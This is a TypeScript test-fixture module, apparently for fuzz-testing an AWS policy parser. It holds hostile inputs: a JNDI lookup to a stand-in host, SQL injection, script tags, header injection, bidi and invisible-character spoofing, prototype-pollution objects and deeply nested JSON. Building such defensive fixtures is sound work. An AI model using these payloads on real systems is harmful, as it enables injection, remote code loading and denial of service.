import type { Json } from '../../src/core/policy/document.ts'
import { isObject } from '../../src/core/policy/parsing/read-json.ts'

const MEGABYTE = 1_000_000

/** Values that anybody can put into a name, a tag, a user agent or a policy. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'no text': '',
  blanks: '   ',
  'line breaks': 'a\r\nBcc: everybody@evil.example\n\nCooper fixed S3 bucket other',
  'control characters': 'a\u0000b\u0007c\u001bd\u007fe\u0085f',
  'ANSI colours': '\u001b[31mred\u001b[0m\u009b32mgreen',
  'an ANSI link': '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007',
  HTML: '<script>alert(1)</script><img src=http://evil.example/x.png>',
  addresses: 'see HTTP://evil.example, WWW.evil.example and ftp://evil.example',
  'reordered text': '\u202emoc.live\u202c \u2066evil\u2069 \u200fx',
  'invisible text': 'a\u200bb\u200dc\ufeffd\u00ade\u{e0041}f',
  'invisible letters': 'a\u034fb\u115fc\u3164d\uffa0e\ufe0ff\u{e0100}g\u17b4h',
  'line separators': 'a\u2028b\u2029c',
  'half characters': '\ud800a\udc00',
  'private characters': '\ue000\u{f0000}\ufffe',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for others to expand
  formats: "%s %n ${jndi:ldap://evil.example/a} {{7*7}} '; DROP TABLE buckets; --",
  quotes: '"}],"Statement":[{"Effect":"Allow',
  wildcards: '*?'.repeat(500),
  variables: `${'$'}{aws:username}`.repeat(100),
  'a prototype by name': '__proto__',
  'a constructor': 'constructor',
  'a method': 'toString',
  "Cooper's name": 'CooperTlsOnly',
  '1 MB': 'x'.repeat(MEGABYTE),
  '1 MB of escapes': '\u001b'.repeat(MEGABYTE),
  '1 MB of halves': '\ud800'.repeat(MEGABYTE),
  '1 MB of emoji': '😀'.repeat(MEGABYTE / 2),
  '1 MB of lines': 'http://evil.example\n'.repeat(MEGABYTE / 20),
}

const DEEP = 100_000

const list = (items: readonly string[]) => `[${items.join(',')}]`

const OTHERS: Readonly<Record<string, string>> = {
  null: 'null',
  true: 'true',
  zero: '0',
  infinity: '-1e999',
  'a huge number': '123456789012345678901234567890',
  'an empty list': '[]',
  'an empty object': '{}',
  'a list in a list': '[[null]]',
  'a huge list': list(Array(DEEP).fill('0')),
  'a huge list of objects': list(Array(20_000).fill('{"type":"AWS::S3::Bucket"}')),
  'a huge object': `{${Array.from({ length: 20_000 }, (_, key) => `"${key}":{}`)}}`,
  'lists nested deeply': '['.repeat(DEEP) + ']'.repeat(DEEP),
  'objects nested deeply': `${'{"a":'.repeat(DEEP)}0${'}'.repeat(DEEP)}`,
  'a prototype': '{"__proto__":{"polluted":true}}',
  'a prototype of the constructor': '{"constructor":{"prototype":{"polluted":true}}}',
  'methods that are none': '{"toString":0,"valueOf":0,"toJSON":0,"then":0,"length":-1}',
}

/** As JSON text, because JavaScript cannot serialize values that are nested so deeply. */
export const HOSTILE_JSON: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    Object.entries(HOSTILE_TEXTS).map(([name, text]) => [name, JSON.stringify(text)]),
  ),
  ...OTHERS,
}

/** One spoilt field, identified by names, so that fast-check's output of a failure stays short. */
export interface Spoil {
  /** The number of the field, counted from the outside to the inside. */
  readonly field: number
  readonly how: 'replace' | 'remove' | 'add beside' | 'wrap'
  /** A name of `HOSTILE_JSON`. */
  readonly by: string
}

/** The JSON text of a value with some fields spoilt. */
export function spoilt(value: unknown, spoils: readonly Spoil[]): string {
  const paths = pathsOf(value as Json)
  const marked = spoils.reduce<Json>((tree, { field, how }, index) => {
    const change = CHANGES[how](markOf(index))
    return changeAt(tree, paths[field % paths.length] ?? [], change)
  }, value as Json)
  return spoils.reduce(
    (text, { by }, index) =>
      text.replaceAll(JSON.stringify(markOf(index)), () => HOSTILE_JSON[by] ?? 'null'),
    JSON.stringify(marked),
  )
}

const markOf = (index: number) => `@@${index}@@`

/** The fields of the object or list that contains the field, after the change. */
type Change = (fields: readonly Field[], name: string) => readonly Field[]
type Field = readonly [name: string, value: Json]

const CHANGES: Readonly<Record<Spoil['how'], (mark: string) => Change>> = {
  replace: (mark) => (fields, name) =>
    fields.map(([other, value]) => [other, other === name ? mark : value]),
  remove: () => (fields, name) => fields.filter(([other]) => other !== name),
  'add beside': (mark) => (fields) => [...fields, ['__proto__', mark], ['constructor', mark]],
  wrap: (mark) => (fields, name) =>
    fields.map(([other, value]) => [other, other === name ? [value, mark] : value]),
}

function changeAt(tree: Json, path: readonly string[], change: Change): Json {
  const [name = '', ...rest] = path
  const here: readonly Field[] | undefined = fieldsOf(tree)
  if (here === undefined) return tree
  const fields =
    rest.length === 0
      ? change(here, name)
      : here.map(
          ([other, value]): Field => [
            other,
            other === name ? changeAt(value, rest, change) : value,
          ],
        )
  // `fromEntries` makes `__proto__` a field like any other, as `JSON.parse` does.
  return Array.isArray(tree) ? fields.map(([, value]) => value) : Object.fromEntries(fields)
}

const fieldsOf = (value: Json): readonly Field[] | undefined =>
  Array.isArray(value) || isObject(value) ? Object.entries(value) : undefined

function pathsOf(value: Json, path: readonly string[] = []): readonly (readonly string[])[] {
  const fields = fieldsOf(value) ?? []
  const inner = fields.flatMap(([name, field]) => pathsOf(field, [...path, name]))
  return path.length === 0 ? inner : [path, ...inner]
}
